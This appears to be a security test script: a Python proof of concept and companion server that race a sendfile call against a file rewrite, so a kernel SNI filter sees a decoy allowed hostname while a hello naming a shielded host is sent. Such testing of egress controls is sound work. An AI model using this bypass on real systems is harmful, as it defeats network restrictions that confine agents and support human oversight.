# A child's TLS hello sent with sendfile from a file she rewrites right after the call (the
# attack on the installed agent, 2026-11-30): the file holds a decoy naming an allowed host when
# the kernel's rules read it, and the real hello, naming a shielded host, by the time its pages
# are sent. Each try finishes the handshake of the real hello and asks for the real host's page.
#   hellofile.py ADDRESS PORT REAL DECOY TRIES DIRECTORY
# Prints a line per try: "served BODY" (the server answered the real hello), "failed" (it got
# the decoy: the handshake breaks) or "reset".
#   hellofile.py serve ADDRESS PORT CERTIFICATE KEY READY
# The server for it (not the child's): it reads each connection 0.3 s after accepting it, as a
# busy server or one behind a slow link does, and answers "https NAME" for the name it was sent.
import os, socket, ssl, sys, threading, time

if sys.argv[1] == "serve":
    address, port, certificate, key, ready = sys.argv[2:7]
    server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    server.load_cert_chain(certificate, key)
    listener = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, int(port)))
    listener.listen(64)
    open(ready, "w").close()

    def answer(connection):
        time.sleep(0.3)
        names = []
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(certificate, key)
        context.sni_callback = lambda _, name, __: names.append(name)
        try:
            with context.wrap_socket(connection, server_side=True) as tls:
                tls.settimeout(5)
                tls.recv(65536)
                body = ("https %s\n" % (names[0] if names else "")).encode()
                tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)
        except (ssl.SSLError, OSError):
            pass

    while True:
        accepted, _ = listener.accept()
        threading.Thread(target=answer, args=(accepted,), daemon=True).start()

address, port, real, decoy, tries, directory = sys.argv[1:7]
assert len(real) == len(decoy)
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
path = os.path.join(directory, "hello.bin")


def attempt():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=real)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    file = os.open(path, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
    os.write(file, hello.replace(real.encode(), decoy.encode()))
    connection = socket.create_connection((address, int(port)), timeout=5)
    try:
        os.sendfile(connection.fileno(), file, 0, len(hello))
        os.pwrite(file, hello, 0)

        def exchange():
            pending = outgoing.read()
            if pending:
                connection.sendall(pending)
            data = connection.recv(65536)
            if not data:
                raise ConnectionResetError
            incoming.write(data)

        while True:
            try:
                tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                exchange()
        tls.write(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % real).encode())
        body = b""
        while True:
            try:
                body += tls.read(65536)
            except ssl.SSLWantReadError:
                try:
                    exchange()
                except ConnectionResetError:
                    break
            except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                break
        text = body.decode(errors="replace").split("\r\n\r\n", 1)[-1].strip()
        return "served " + text
    except (ConnectionResetError, BrokenPipeError):
        return "reset"
    except (ssl.SSLError, OSError):
        return "failed"
    finally:
        connection.close()
        os.close(file)


for _ in range(int(tries)):
    print(attempt(), flush=True)
